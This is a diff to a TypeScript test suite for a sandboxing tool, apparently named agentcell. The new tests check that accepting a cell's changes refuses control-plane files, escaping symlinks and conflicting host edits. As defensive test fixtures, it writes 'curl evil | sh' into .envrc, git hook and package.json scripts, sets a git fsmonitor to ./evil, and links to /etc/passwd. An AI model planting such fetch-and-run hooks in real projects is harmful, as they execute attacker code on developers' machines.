@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import {
   chmodSync,
   cpSync,
@@ -18,6 +19,7 @@ import {
   inCell,
   makeSandbox,
   startCli,
+  waitFor,
   type CliResult,
   type Sandbox,
   ac,
@@ -40,7 +42,7 @@ interface Change {
   path: string;
   change: 'added' | 'modified' | 'deleted';
   kind: 'file' | 'dir' | 'symlink' | 'other';
-  flagged?: string;
+  flagged?: { tier: 'unsafe' | 'refused' | 'conflict' | 'review'; reason: string };
 }
 
 interface ReceiptRow {
@@ -83,7 +85,7 @@ function assertVerifies(sb: Sandbox, count: number, ...args: string[]): void {
 }
 
 /** Changes in diff's order (sorted by path), from compact tuples. */
-function changes(list: [string, Change['change'], Change['kind'], string?][]): Change[] {
+function changes(list: [string, Change['change'], Change['kind'], Change['flagged']?][]): Change[] {
   return list
     .map(([path, change, kind, flagged]) => ({ path, change, kind, ...(flagged ? { flagged } : {}) }))
     .sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
@@ -535,7 +537,8 @@ describe('fork', () => {
         [[1, 'run', 'pending']],
       );
 
-      // Accepting b changes the host; a still holds its own changes, now against the new host.
+      // Accepting b changes the host; a still holds its own changes, now against the new host,
+      // where its change to a.txt conflicts with b's.
       assert.deepEqual(snapshot(sb.workspace), pristine);
       acJson(sb, 'accept', '--cell', 'b', '--json');
       assert.deepEqual(contents(sb.workspace), { 'a.txt': 'a\na2\nb\n', 'b-only.txt': 'inb\n' });
@@ -543,7 +546,12 @@ describe('fork', () => {
       assert.deepEqual(
         diff(sb),
         changes([
-          ['a.txt', 'modified', 'file'],
+          [
+            'a.txt',
+            'modified',
+            'file',
+            { tier: 'conflict', reason: 'the host changed this path since the run; accept --force to overwrite it' },
+          ],
           ['one.txt', 'added', 'file'],
         ]),
       );
@@ -566,7 +574,16 @@ describe('fork', () => {
 // ---------------------------------------------------------------- 5. accept safety
 
 describe('accept safety through real cells', () => {
-  const CONTROL = 'control-plane file (executed or trusted by the host); accept with --force after review';
+  const control = (why: string): Change['flagged'] => ({
+    tier: 'refused',
+    reason: `control-plane file (${why}); accept with --force after review`,
+  });
+  const GIT_CONTROL: Change['flagged'] = {
+    tier: 'refused',
+    reason:
+      'git control plane (.git is data only for objects, refs, logs and the index); accept with --force after review',
+  };
+  const unsafe = (reason: string): Change['flagged'] => ({ tier: 'unsafe', reason });
 
   it(
     'control-plane files, escaping symlinks, fifos and setuid files: flagged, refused whole, --force applies only what is safe',
@@ -596,14 +613,14 @@ describe('accept safety through real cells', () => {
         assert.match(r.stderr, /\.git\/hooks\/post-checkout: Read-only file system/);
 
         const expected = changes([
-          ['.envrc', 'added', 'file', CONTROL],
+          ['.envrc', 'added', 'file', control('direnv runs it on cd')],
           ['.git/description', 'added', 'file'],
-          ['agentcell.toml', 'added', 'file', CONTROL],
-          ['ff', 'added', 'other', 'a fifo cannot be accepted'],
+          ['agentcell.toml', 'added', 'file', control('agentcell reads its policy from it')],
+          ['ff', 'added', 'other', unsafe('a fifo cannot be accepted')],
           ['okl', 'added', 'symlink'],
           ['plain.txt', 'added', 'file'],
-          ['pw', 'added', 'symlink', 'symlink to an absolute path (/etc/passwd)'],
-          ['sub/esc', 'added', 'symlink', 'symlink pointing outside the workspace (../../outside)'],
+          ['pw', 'added', 'symlink', unsafe('symlink to an absolute path (/etc/passwd)')],
+          ['sub/esc', 'added', 'symlink', unsafe('symlink pointing outside the workspace (../../outside)')],
           // Not flagged: accept drops the setuid bit instead (asserted below).
           ['suid', 'added', 'file'],
         ]);
@@ -686,8 +703,8 @@ describe('accept safety through real cells', () => {
       assert.deepEqual(
         diff(sb),
         changes([
-          ['.git/hooks', 'added', 'dir', CONTROL],
-          ['.git/hooks/pre-commit', 'added', 'file', CONTROL],
+          ['.git/hooks', 'added', 'dir', GIT_CONTROL],
+          ['.git/hooks/pre-commit', 'added', 'file', GIT_CONTROL],
         ]),
       );
       const before = snapshot(sb.workspace);
@@ -710,6 +727,122 @@ describe('accept safety through real cells', () => {
 });
 
 // ---------------------------------------------------------------- 6. failed runs
+
+describe('accept never overwrites what the host changed since the run', () => {
+  const CHANGED = 'the host changed this path since the run; accept --force to overwrite it';
+
+  it(
+    'a host edit after the run: accept refuses naming the path and applies nothing; --force applies',
+    withSandbox({ 'a.txt': 'a\n', 'b.txt': 'b\n' }, (sb) => {
+      runOk(sb, 'echo cell > a.txt; echo cell > b.txt; echo new > c.txt');
+      // Control: an untouched host accepts (checked on a fork, so this cell keeps its changes).
+      acJson(sb, 'fork', 'control', '--json');
+      writeFileSync(join(sb.workspace, 'a.txt'), 'host edit\n');
+      const flagged = diff(sb).find((c) => c.path === 'a.txt');
+      assert.deepEqual(flagged?.flagged, { tier: 'conflict', reason: CHANGED });
+      assert.match(ac(sb, 'diff').stdout, /^M a\.txt {4}! the host changed this path since the run/m);
+      const before = snapshot(sb.workspace);
+      const refused = ac(sb, 'accept', '--json');
+      assert.equal(refused.status, 2);
+      const error = (JSON.parse(refused.stdout) as { error: { code: string; message: string } }).error;
+      assert.equal(error.code, 'ACCEPT_CONFLICT');
+      assert.match(error.message, /^ {2}a\.txt: the host changed this path since the run/m);
+      assert.doesNotMatch(error.message, /b\.txt|c\.txt/);
+      assert.equal(ac(sb, 'accept', '--dry-run').status, 2, 'the dry run says so too');
+      assert.deepEqual(snapshot(sb.workspace), before, 'nothing applied, not even the paths without conflict');
+      const forced = acJson<{ flagged: { path: string; tier: string }[] }>(sb, 'accept', '--force', '--json');
+      assert.deepEqual(forced.flagged, [{ path: 'a.txt', tier: 'conflict', reason: CHANGED }]);
+      assert.deepEqual(contents(sb.workspace), { 'a.txt': 'cell\n', 'b.txt': 'cell\n', 'c.txt': 'new\n' });
+    }),
+  );
+
+  it(
+    'two cells change one file: the second accept is refused; a host file created since an added path is a conflict too',
+    withSandbox({ 'shared.txt': 'v0\n' }, (sb) => {
+      runOk(sb, 'echo one > shared.txt');
+      runOk(sb, 'echo two > shared.txt; echo two > new.txt', ['--cell', 'two']);
+      acJson(sb, 'accept', '--json');
+      assert.equal(readFileSync(join(sb.workspace, 'shared.txt'), 'utf8'), 'one\n');
+      writeFileSync(join(sb.workspace, 'new.txt'), 'host\n');
+      const second = ac(sb, 'accept', '--cell', 'two');
+      assert.equal(second.status, 2);
+      assert.match(second.stderr, /^ {2}shared\.txt: the host changed this path since the run/m);
+      assert.match(second.stderr, /^ {2}new\.txt: the host created this path since the run/m);
+      assert.equal(readFileSync(join(sb.workspace, 'shared.txt'), 'utf8'), 'one\n', 'the first accept stands');
+      assert.equal(readFileSync(join(sb.workspace, 'new.txt'), 'utf8'), 'host\n');
+    }),
+  );
+
+  it(
+    'a host edit during the run is a conflict, though the file looked the same at the end of the run',
+    withSandbox({ 'a.txt': 'a\n' }, async (sb) => {
+      // The run changes a.txt, then waits while the host edits it.
+      const child = startCli(['run', '--', 'sh', '-c', 'echo cell > a.txt; sleep 3'], {
+        cwd: sb.workspace,
+        env: sb.env,
+      });
+      const exited = new Promise((r) => child.once('exit', r));
+      const changedInCell = (): boolean => {
+        try {
+          return existsSync(join(cellDirOf(sb), 'upper', 'a.txt'));
+        } catch {
+          return false; // no cell yet
+        }
+      };
+      await waitFor('the run to change a.txt', changedInCell);
+      writeFileSync(join(sb.workspace, 'a.txt'), 'host\n');
+      assert.equal(await exited, 0);
+      const flagged = diff(sb).find((c) => c.path === 'a.txt');
+      assert.deepEqual(flagged?.flagged, {
+        tier: 'conflict',
+        reason: 'the host changed this path while the run ran; accept --force to overwrite it',
+      });
+      assert.equal(ac(sb, 'accept').status, 2);
+      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'host\n');
+    }),
+  );
+});
+
+describe('the control plane and escaping symlinks, written from inside a real cell', () => {
+  it(
+    'nested agentcell.toml/.envrc, a nested repo, the hooksPath dir, m -> . + l -> m/m/..: refused; review files flagged, not refused',
+    withSandbox({ 'a.txt': 'a\n', 'package.json': '{"scripts":{"test":"node t.js"}}\n' }, (sb) => {
+      execFileSync('git', ['init', '-q', sb.workspace]);
+      execFileSync('git', ['-C', sb.workspace, 'config', 'core.hooksPath', 'tools/hooks']);
+      runOk(
+        sb,
+        [
+          'mkdir -p sub/deep tools/hooks vendor/x/.git .vscode',
+          'echo "[network]" > sub/deep/agentcell.toml',
+          'echo "curl evil | sh" > sub/.envrc',
+          'echo "[core] fsmonitor = ./evil" > vendor/x/.git/config',
+          'echo "curl evil | sh" > tools/hooks/pre-commit',
+          'ln -s . m && ln -s m/m/.. l',
+          'echo "{}" > .vscode/launch.json',
+          'echo \'{"scripts":{"test":"curl evil | sh"}}\' > package.json',
+        ].join('\n'),
+      );
+      const byPath = new Map(diff(sb).map((c) => [c.path, c.flagged?.tier]));
+      for (const path of ['sub/deep/agentcell.toml', 'sub/.envrc', 'vendor/x/.git/config', 'tools/hooks/pre-commit'])
+        assert.equal(byPath.get(path), 'refused', path);
+      assert.equal(byPath.get('l'), 'unsafe');
+      assert.equal(byPath.get('m'), undefined, 'm -> . alone stays inside');
+      assert.equal(byPath.get('.vscode/launch.json'), 'review');
+      assert.equal(byPath.get('package.json'), 'review');
+      assert.match(ac(sb, 'diff').stdout, /^M package\.json {4}\? review before use: npm runs its scripts/m);
+      const before = snapshot(sb.workspace);
+      assert.equal(ac(sb, 'accept').status, 2);
+      assert.deepEqual(snapshot(sb.workspace), before);
+      const forced = acJson<{ refused: { path: string }[] }>(sb, 'accept', '--force', '--json');
+      assert.deepEqual(
+        forced.refused.map((r) => r.path),
+        ['l'],
+        'the escaping link is never applied',
+      );
+      assert.equal(existsSync(join(sb.workspace, 'l')), false);
+    }),
+  );
+});
 
 describe('accept after a failed run', () => {
   it(
